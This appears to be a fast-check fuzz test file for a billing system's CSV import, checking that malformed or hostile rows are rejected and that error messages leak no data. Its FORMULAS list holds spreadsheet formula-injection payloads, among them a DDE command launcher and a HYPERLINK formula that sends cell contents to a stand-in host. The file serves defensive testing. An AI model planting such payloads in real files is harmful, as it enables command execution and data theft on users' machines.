/**
 * The go-live import's CSV under bad input (client/import/csv.ts, rows.ts, runner.ts):
 *
 * - the CSV reader takes any text — random characters, ragged rows, quotes, CR, LF, CRLF, a byte
 *   order mark — and returns records or throws its own CsvError naming a line; nothing else;
 *   what the writer writes, it reads back as written;
 * - the import table reader throws only ImportFileError, whose message repeats no cell or unknown
 *   column name that might be data;
 * - every row made wrong (a cell of the wrong form, empty, huge, non-ASCII, a formula such as
 *   `=cmd|' /C calc'!A0`, the canary; a row with a field too few or too many) is rejected with at
 *   least one problem, and no problem repeats the canary; validation never throws;
 * - the rejects file (a dry run, no Temporal) lists every rejected row with its problems.
 */
import fc from 'fast-check';
import { CsvError, parseCsv, toCsv } from '../../client/import/csv.js';
import { ImportFileError, OPTIONAL_COLUMNS, REQUIRED_COLUMNS, readImportTable, validateRows, type ImportTable } from '../../client/import/rows.js';
import { importCases, rejectsCsv } from '../../client/import/runner.js';
import { resolveRulesSettings } from '../../rules/index.js';
import { CANARY, CANARY_KINDS, canaryHits, check, named, type FuzzStats, type NamedProperty } from './properties.js';

export interface CsvFuzzTarget {
  stats: FuzzStats;
}

const IMPORT_DAY = '2027-03-01';
const settings = resolveRulesSettings();

/** Cells a spreadsheet would run as a formula. */
export const FORMULAS = ['=cmd|\' /C calc\'!A0', '=HYPERLINK("http://x/?"&A1,"klik")', '+1+1', '-2+3', '@SUM(A1:A2)', '=1+1', '\t=1', '\r=1'];
/** Whether a cell of a CSV file would be run as a formula by a spreadsheet. */
export const isFormula = (cell: string) => /^[=+\-@\t\r]/.test(cell);

/** CSV-ish text: fields with commas, quotes, CR, LF, a BOM, unicode; ragged rows. */
const csvChar = fc.oneof(
  { weight: 6, arbitrary: fc.constantFrom('a', 'b', '1', ' ', ',', '"', '\r', '\n', '\r\n', '\uFEFF', 'æ', '=') },
  { weight: 2, arbitrary: fc.string({ unit: 'grapheme', minLength: 1, maxLength: 1 }) },
  { weight: 1, arbitrary: fc.string({ unit: 'binary', minLength: 1, maxLength: 1 }) },
);
const csvText = fc.oneof(
  fc.array(csvChar, { maxLength: 80 }).map((cs) => cs.join('')),
  fc.string({ unit: 'binary', maxLength: 200 }),
  fc.uint8Array({ maxLength: 200 }).map((b) => Buffer.from(b).toString('utf8')),
  fc.uint8Array({ maxLength: 200 }).map((b) => Buffer.from(b).toString('latin1')),
);

const COLUMNS = [...REQUIRED_COLUMNS, ...OPTIONAL_COLUMNS];

/** A header: the required columns and some optional ones, in any order, any case, spaces around. */
const header = fc
  .tuple(fc.subarray([...OPTIONAL_COLUMNS.filter((c) => !/_(sent|received|channel)$/.test(c))], { maxLength: 3 }), fc.nat())
  .chain(([optional, seed]) =>
    fc.shuffledSubarray([...REQUIRED_COLUMNS, ...optional], { minLength: REQUIRED_COLUMNS.length + optional.length }).map((cols) =>
      cols.map((c, i) => ((seed >> i) & 1 ? ` ${c.toUpperCase()} ` : c)),
    ),
  );

/** A valid cell per column (a billing-run row: no letters). */
const validCell: Record<string, fc.Arbitrary<string>> = {
  customer_id: fc.stringMatching(/^C-[A-Za-z0-9]{1,12}$/),
  metering_point_id: fc.stringMatching(/^57\d{16}$/),
  customer_class: fc.constantFrom('household', 'business'),
  invoice_id: fc.stringMatching(/^INV-[A-Za-z0-9]{1,12}$/),
  amount_ore: fc.integer({ min: 1, max: 100_000_000 }).map(String),
  due_date: fc.constantFrom('2027-01-15', '2027-02-01', '2026-12-01'),
  meter_kind: fc.constantFrom('physical', 'remote', ''),
  preferred_channel: fc.constantFrom('digital', 'letter', ''),
  next_step: fc.constantFrom('reminder1', ''),
  security_amount_ore: fc.constant(''),
};

/** A cell that makes its row invalid, whichever required column it is in. */
const badCell = fc.oneof(
  fc.constantFrom('', ' ', '\u00a0', 'x'.repeat(70), 'æøå', '0', '-1', '1.5', '2027-02-29', '2027-13-01', 'NULL', '"', 'a b', ...FORMULAS),
  fc.constantFrom(...CANARY_KINDS).map((k) => CANARY[k]),
  fc.string({ unit: 'grapheme', minLength: 1, maxLength: 8 }).filter((s) => /[^\x00-\x7f]/.test(s)),
);

const ID_SHAPE = /^[A-Za-z0-9][A-Za-z0-9._:/-]{0,63}$/;
const CANARY_VALUES: readonly string[] = Object.values(CANARY);
/**
 * Whether a bad cell is bad for the column: an optional column may be empty (spaces are trimmed), and
 * an id column takes `0`, `NULL` or `2027-02-29` as ids (only the canary is refused for its content).
 */
const badFor = (column: string, cell: string) => {
  if (cell.trim() === '') return (REQUIRED_COLUMNS as readonly string[]).includes(column);
  if (column === 'customer_id' || column === 'invoice_id') return !ID_SHAPE.test(cell.trim()) || CANARY_VALUES.includes(cell);
  return true;
};

interface Table {
  columns: string[];
  rows: string[][];
  /** Rows made wrong: index → what. */
  bad: Map<number, string>;
}

/**
 * A file of valid rows, some made wrong (every one with `allBad`): one cell replaced, or a field too
 * few or too many.
 */
export const importFileArb = (allBad = false): fc.Arbitrary<Table> => header.chain((cols) => {
  const norm = cols.map((c) => c.trim().toLowerCase());
  const row = fc.tuple(...norm.map((c) => validCell[c] ?? fc.constant(''))).map((cells) => cells as string[]);
  const breakOne = fc.tuple(fc.nat(), badCell, fc.constantFrom('cell', 'short', 'long'));
  return fc.tuple(fc.array(row, { minLength: 1, maxLength: 6 }), fc.array(fc.tuple(fc.nat(), breakOne), { minLength: 1, maxLength: 4 }), fc.array(breakOne, { minLength: 6, maxLength: 6 })).map(([rows, some, every]) => {
    const bad = new Map<number, string>();
    const out = rows.map((r, i) => r.map((cell, j) => (norm[j] === 'invoice_id' ? `${cell}-${i}` : cell)));
    const breaks = allBad ? out.map((_, i) => [i, ...every[i]!] as const) : some.map(([r, b]) => [r, ...b] as const);
    for (const [r, c, cell, how] of breaks) {
      const i = r % out.length;
      if (bad.has(i)) continue;
      if (how === 'short') {
        out[i] = out[i]!.slice(0, -1);
        bad.set(i, 'a field too few');
      } else if (how === 'long') {
        out[i] = [...out[i]!, cell];
        bad.set(i, 'a field too many');
      } else {
        const j = c % norm.length;
        if (badFor(norm[j]!, cell)) {
          out[i]![j] = cell;
          bad.set(i, `${norm[j]} = ${JSON.stringify(cell)}`);
        } else {
          // A cell that would be fine in that column: cut the row short instead.
          out[i] = out[i]!.slice(0, -1);
          bad.set(i, 'a field too few');
        }
      }
    }
    return { columns: cols, rows: out, bad };
  });
});
const importFile = importFileArb();

export function csvProperties(t: CsvFuzzTarget): NamedProperty[] {
  const door = 'csv import';
  return [
    named(
      'csv: the reader returns records or throws CsvError for any text',
      fc.property(csvText, (text) => {
        let ok = true;
        try {
          const records = parseCsv(text);
          check(t.stats, door, records.every((r) => r.fields.length >= 1 && r.line >= 1), `odd records for ${JSON.stringify(text)}`);
        } catch (err) {
          ok = false;
          check(t.stats, door, err instanceof CsvError && err.line >= 1, `threw ${(err as Error).name}: ${(err as Error).message} for ${JSON.stringify(text)}`);
        }
        t.stats.outcome(door, ok);
      }),
    ),
    named(
      'csv: what the writer writes is read back as written',
      fc.property(
        fc.array(fc.array(fc.array(csvChar, { maxLength: 6 }).map((cs) => cs.join('')), { minLength: 1, maxLength: 5 }), { minLength: 1, maxLength: 5 })
          // A record of one empty field is a blank line, which the reader skips (as RFC 4180 readers do).
          .map((records) => records.filter((r) => !(r.length === 1 && r[0] === ''))),
        (records) => {
          const text = toCsv(records);
          let back: string[][];
          try {
            back = parseCsv(text).map((r) => r.fields);
          } catch (err) {
            check(t.stats, door, false, `its own output ${JSON.stringify(text)} threw ${(err as Error).message}`);
          }
          t.stats.outcome(door, true);
          check(t.stats, door, JSON.stringify(back) === JSON.stringify(records), `${JSON.stringify(records)} came back as ${JSON.stringify(back)}`);
        },
      ),
    ),
    named(
      'csv: the table reader throws only ImportFileError, and names no cell or column that might be data',
      fc.property(
        fc.oneof(
          csvText,
          fc
            .array(fc.oneof(fc.constantFrom(...COLUMNS, 'problem', 'name', 'cpr', 'e-mail', ...CANARY_KINDS.map((k) => CANARY[k])), fc.string({ maxLength: 12 })), { maxLength: 8 })
            .map((h) => `${toCsv([h])}a,b\r\n`),
        ),
        (text) => {
          let ok = true;
          try {
            readImportTable(text);
          } catch (err) {
            ok = false;
            check(t.stats, door, err instanceof ImportFileError, `threw ${(err as Error).name}: ${(err as Error).message}`);
            const message = (err as Error).message;
            const hits = canaryHits(message);
            check(t.stats, door, hits.length === 0, `the message repeats ${hits.join(', ')}: ${message}`, 'canary');
          }
          t.stats.outcome(door, ok);
        },
      ),
    ),
    named(
      'csv: every row made wrong is rejected with a problem that repeats no value; the rejects file lists it',
      fc.asyncProperty(importFile, async ({ columns, rows, bad }) => {
        const text = toCsv([columns, ...rows]);
        let table: ImportTable;
        try {
          table = readImportTable(text);
        } catch (err) {
          check(t.stats, door, false, `a well-formed file was refused: ${(err as Error).message}`);
        }
        let verdicts;
        try {
          verdicts = validateRows(table, { importDay: IMPORT_DAY, settings, source: 'fuzz.csv' });
        } catch (err) {
          check(t.stats, door, false, `validation threw ${(err as Error).message}`);
        }
        verdicts.forEach((v, i) => t.stats.outcome(door, v.ok));
        for (const [i, what] of bad) {
          const v = verdicts[i]!;
          check(t.stats, door, !v.ok && v.problems.length > 0, `row ${i + 1} with ${what} was accepted`);
        }
        const problems = verdicts.flatMap((v) => (v.ok ? [] : v.problems));
        const hits = canaryHits(problems.join('\n'));
        check(t.stats, door, hits.length === 0, `a problem repeats ${hits.join(', ')}: ${problems.join(' | ').slice(0, 300)}`, 'canary');
        // The rejects file of a dry run (no Temporal is reached).
        const report = await importCases(undefined as never, table, { taskQueue: 'unused', dryRun: true, importDay: IMPORT_DAY, settings, source: 'fuzz.csv' });
        const rejects = parseCsv(rejectsCsv(table, report));
        check(t.stats, door, rejects.length === 1 + report.rejected.length && report.rejected.length >= bad.size, `the rejects file has ${rejects.length - 1} rows for ${bad.size} bad`);
        const problemColumn = rejects.slice(1).map((r) => r.fields[0] ?? '');
        check(t.stats, door, problemColumn.every((p) => p.length > 0) && canaryHits(problemColumn.join('\n')).length === 0, 'the problem column is empty or repeats the canary');
      }),
    ),
  ];
}

/**
 * How many cells of a rejects file a spreadsheet would run as formulas (for the report: the rows are
 * written back as read, so a formula written in the import file is written again).
 */
export async function formulaCellsInRejects(rows: string[][]): Promise<number> {
  const text = toCsv([[...REQUIRED_COLUMNS], ...rows]);
  const table = readImportTable(text);
  const report = await importCases(undefined as never, table, { taskQueue: 'unused', dryRun: true, importDay: IMPORT_DAY, settings, source: 'fuzz.csv' });
  return parseCsv(rejectsCsv(table, report))
    .slice(1)
    .flatMap((r) => r.fields.slice(1))
    .filter(isFormula).length;
}
